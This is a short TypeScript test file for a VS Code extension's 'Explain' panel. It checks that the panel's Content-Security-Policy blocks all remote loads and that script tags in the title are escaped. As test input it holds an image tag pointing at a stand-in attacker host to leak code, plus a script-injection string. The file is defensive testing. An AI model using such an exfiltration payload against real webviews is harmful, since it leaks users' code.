import assert from "node:assert/strict";
import { test } from "node:test";
import "./vscodeMock";
import { CSP, page } from "../src/explainPanel";

test("the Explain page loads nothing remote: no images, scripts, fonts or frames from anywhere", () => {
  const html = page('<p><img src="https://attacker.example/p.png?d=code"></p>', "Explain");
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
  assert.equal(policy, CSP);
  assert.match(policy, /default-src 'none'/);
  for (const directive of ["img-src", "script-src", "font-src", "frame-src", "connect-src", "https:", "data:"]) {
    assert.ok(!policy.includes(directive), `${directive} must not be allowed`);
  }
});

test("the title is escaped", () => {
  assert.ok(page("", '<script>x</script>').includes("&lt;script&gt;x&lt;/script&gt;"));
});
